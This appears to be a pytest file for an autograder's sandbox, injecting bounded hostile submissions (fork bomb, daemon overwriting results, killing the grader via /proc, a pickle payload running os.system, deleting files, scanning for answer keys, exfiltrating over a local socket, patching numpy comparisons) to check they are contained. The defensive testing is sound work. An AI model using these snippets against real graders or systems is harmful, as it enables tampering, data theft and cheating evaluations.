"""Hostile submissions are contained: one small, self-limiting submission per attack.

Every attack sits in ``shear_matrix`` (lab 7, ex4) of an otherwise correct
submission, so each test checks that grading completes, the attacked exercise
scores 0 with a clear message, every other exercise is graded normally, and no
process of the submission survives. Each attack bounds itself (loops, sleeps,
sizes), so it is harmless even when run unconfined. Attacks that only the
namespaced confinement can stop (network, reading the grader's files, killing the
grader) are skipped where the platform offers no namespaces, as documented in
the README's security model. The attacks at import time (an infinite loop,
``sys.exit`` and ``os._exit``) and a multi-gigabyte allocation are in
``test_robustness.py``, with the other failures issue 2 asks about.
"""

import json
import os
import socket
import subprocess
import sys
import threading
import time
from dataclasses import replace

import pytest

from autograder.sandbox import confine
from autograder.engine.runner import grade
from autograder.sandbox.supervisor import Limits
from conftest import (NAME_PROCESS, ROOT, assert_only_exercise_lost, check_results, marker, mutant,
                      processes_named)
from naming_switch import pythonpath_without_naming

MODULE = "lab07_transformations"
FAST = Limits(call_timeout=2.0, import_timeout=4.0)
# For attacks that never return: one timeout per function shows the attack stopped and its
# processes gone; giving up after repeated timeouts is tests/test_robustness.py's.
ONE_TIMEOUT = replace(FAST, timeouts_per_function=1)
NAMESPACED = confine.detect().level != "process-group"
needs_namespaces = pytest.mark.skipif(not NAMESPACED, reason="no namespaces on this platform")


WEAKER_LEVELS = [level for level in confine.LEVELS[1:]
                 if level == "process-group" or NAMESPACED]  # "namespaces" needs them too


@pytest.fixture(params=["detected", *WEAKER_LEVELS])
def confinement(request, monkeypatch):
    """Run a test under the detected confinement and under each weaker one."""
    if request.param != "detected":
        monkeypatch.setenv("AUTOGRADER_CONFINEMENT", request.param)
    return request.param


def attack(tmp_path, body: str, lost="lab07.ex4", *fragments, limits=FAST):
    result = grade(mutant(tmp_path, MODULE, body), ["lab07"], limits=limits)
    assert_only_exercise_lost(result, lost, *fragments)
    return result


# ---------------------------------------------------------------- processes
def test_fork_bomb(tmp_path, confinement):
    name = marker()
    result = attack(tmp_path, NAME_PROCESS + f"""
        def shear_matrix(s):
            import os, time
            for _ in range(300):                 # bounded
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    _name_this_process("{name}")
                    time.sleep(4)                # each child ends by itself
                    os._exit(0)
            while True:
                pass
        """, "lab07.ex4", limits=ONE_TIMEOUT)
    # Stopped by its timeout, or, where no cgroup bounds its processes, by the grader's own count.
    [shear] = [e for e in result.exercises if e.id == "lab07.ex4"]
    words = " ".join(c.message for c in shear.checks)
    assert "did not finish" in words or "started more than 64 processes" in words, words
    assert processes_named(name) == []


def test_double_forked_daemon_neither_survives_nor_rewrites_results(tmp_path, confinement):
    name = marker()
    cwd = tmp_path / "grading"
    cwd.mkdir()
    targets = [cwd / "results.json", cwd / "feedback.html", tmp_path / "results.json"]
    submission = mutant(tmp_path, MODULE, NAME_PROCESS + f"""
        def shear_matrix(s):
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    _name_this_process("{name}")
                    end = time.time() + 8            # bounded lifetime
                    while time.time() < end:
                        for path in {[str(t) for t in targets]!r}:
                            try:
                                with open(path, "w") as f:
                                    f.write('{{"total": 999}}')
                            except OSError:
                                pass
                        time.sleep(0.2)
                os._exit(0)
            return None
        """)
    # Naming off in grade.py (it asserts nothing naming writes): the error model's and repairs'
    # reruns would start a daemon each (26 s -> 12 s a grading); the checks' calls start several.
    env = {**os.environ, "PYTHONPATH": pythonpath_without_naming(ROOT)}
    run = subprocess.run([sys.executable, str(ROOT / "grade.py"), "--submission", str(submission), "lab07",
                          "--json", "results.json", "--html", "feedback.html", "--timeout", "2"],
                         cwd=cwd, env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    written = {p: p.read_text() for p in targets[:2]}
    time.sleep(1.5)  # a surviving daemon would rewrite them now
    assert processes_named(name) == []
    assert {p: p.read_text() for p in targets[:2]} == written
    data = json.loads(written[targets[0]])   # the grader's scores: ex4 lost, nothing else
    assert {e["id"]: e["score"] == e["max_score"] for e in data["exercises"]} == \
        {f"lab07.ex{i}": i != 4 for i in range(1, 7)}
    if NAMESPACED and confinement != "process-group":
        assert not targets[2].exists()   # nothing outside its scratch folder changed


def test_sigterm_handler_that_ignores_termination(tmp_path, confinement):
    attack(tmp_path, """
        def shear_matrix(s):
            import signal
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                pass
        """, "lab07.ex4", "did not finish", limits=ONE_TIMEOUT)


@needs_namespaces
def test_killing_the_grader_is_impossible(tmp_path, no_naming):
    """(Naming off: its reruns repeat the same attack, 9 s -> 4 s.)"""
    attack(tmp_path, """
        def shear_matrix(s):
            import os, signal
            targets = {os.getppid()}
            for pid in os.listdir("/proc"):
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        if b"pytest" in f.read() or b"grade.py" in f.read():
                            targets.add(int(pid))
                except (OSError, ValueError):
                    pass
            for pid in targets - {0, os.getpid()}:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            return None
        """, "lab07.ex4", "returned None")


# ---------------------------------------------------------------- crashes, resources
def test_segfault(tmp_path):
    attack(tmp_path, """
        def shear_matrix(s):
            import ctypes
            return ctypes.string_at(0)
        """, "lab07.ex4", "segmentation fault")


def test_infinite_recursion(tmp_path):
    attack(tmp_path, """
        def shear_matrix(s):
            return shear_matrix(s)
        """, "lab07.ex4", "recursed too deeply")


def test_hundreds_of_megabytes_printed(tmp_path):
    attack(tmp_path, """
        def shear_matrix(s):
            import sys
            chunk = "x" * (1 << 20)
            for _ in range(300):                 # 300 MB at most
                sys.stdout.write(chunk)
            return None
        """, "lab07.ex4", "printed or wrote more than 64 MB", limits=Limits(call_timeout=20))


# ---------------------------------------------------------------- results that lie
def test_object_that_equals_everything(tmp_path):
    attack(tmp_path, """
        class Anything:
            def __eq__(self, other):
                return True
            def __array__(self, dtype=None, copy=None):
                return np.eye(3)

        def shear_matrix(s):
            return Anything()
        """, "lab07.ex4", "returned a lab07_transformations.Anything")


def test_object_whose_unpickling_runs_code(tmp_path, no_naming):
    """(Naming off: its reruns return the same payload, 5 s -> 2.5 s.)"""
    flag = tmp_path / "pwned"
    attack(tmp_path, f"""
        import os

        class Payload:
            def __reduce__(self):
                return (os.system, ("touch {flag}",))

        def shear_matrix(s):
            return Payload()
        """, "lab07.ex4", "returned a lab07_transformations.Payload")
    assert not flag.exists()


@pytest.mark.parametrize("garbage", [
    "struct.pack('>Q', 16) + bytes(range(16))",          # a frame of noise
    "struct.pack('>Q', 2**62)",                           # an absurd length
    "b'AGT1' + struct.pack('>Q', 10**9) + b'{}'",        # a lying header (no length prefix)
])
def test_garbage_written_on_the_result_pipe(tmp_path, garbage):
    attack(tmp_path, f"""
        def shear_matrix(s):
            import os, struct, sys
            os.write(int(sys.argv[2]), {garbage})       # the worker's response pipe
            return None
        """, "lab07.ex4")


def test_monkeypatching_builtins_numpy_and_numpy_testing_at_import(tmp_path):
    attack(tmp_path, """
        import builtins
        import numpy.testing
        builtins.isinstance = lambda *args: True
        builtins.abs = lambda x: 0
        np.allclose = lambda *args, **kwargs: True
        np.array_equal = lambda *args, **kwargs: True
        numpy.testing.assert_allclose = lambda *args, **kwargs: None

        def shear_matrix(s):
            return np.zeros((3, 3))
        """, "lab07.ex4", "shear_matrix(0.5) is wrong")


# ---------------------------------------------------------------- files and network
def test_fake_results_in_working_and_parent_folders_and_deleted_files(tmp_path, confinement):
    attack(tmp_path, """
        def shear_matrix(s):
            import os, shutil
            for folder in (".", "..", "../..", "../submission", "../worker"):
                for name in ("results.json", "feedback.html"):
                    try:
                        with open(os.path.join(folder, name), "w") as f:
                            f.write('{"total": 999}')
                    except OSError:
                        pass
                try:
                    for entry in os.listdir(folder):
                        path = os.path.join(folder, entry)
                        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
                except OSError:
                    pass
            os._exit(1)   # force a restart: the next worker must still find everything
        """, "lab07.ex4", "ended the worker process")


@needs_namespaces
def test_walking_the_filesystem_for_answers_finds_nothing(tmp_path, no_naming):
    """(Naming off: its reruns walk again, 16 s -> 7 s; what is asserted is the checks' output.)"""
    result = attack(tmp_path, f"""
        def shear_matrix(s):
            import os, sys
            seen = 0
            for top in ({str(ROOT)!r}, sys.prefix):
                for folder, dirs, files in os.walk(top):
                    for name in files:
                        if not name.endswith(".py"):
                            continue
                        seen += 1
                        if seen > 3000:                 # bounded walk
                            return None
                        try:
                            with open(os.path.join(folder, name), errors="ignore") as f:
                                text = f.read()
                        except OSError:
                            continue
                        if "params.reshape(2, 3)" in text or "hidden=True" in text:
                            print("LEAK", os.path.join(folder, name))
            return None
        """, "lab07.ex4", "returned None", limits=Limits(call_timeout=20))
    outputs = " ".join(c.output for c in check_results(result, "lab07.ex4"))
    assert "LEAK" not in outputs


@needs_namespaces
def test_network_connections_fail(tmp_path):
    received = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(8)
    port = server.getsockname()[1]

    def accept():
        try:
            connection, _ = server.accept()
            received.append(connection.recv(100))
        except OSError:
            pass

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    attack(tmp_path, f"""
        def shear_matrix(s):
            import socket
            try:
                with socket.create_connection(("127.0.0.1", {port}), timeout=2) as c:
                    c.sendall(b"stolen answers")
            except OSError as error:
                raise ConnectionError(f"no network: {{error}}")
            return None
        """, "lab07.ex4", "no network")
    server.close()
    listener.join(timeout=10)
    assert received == []
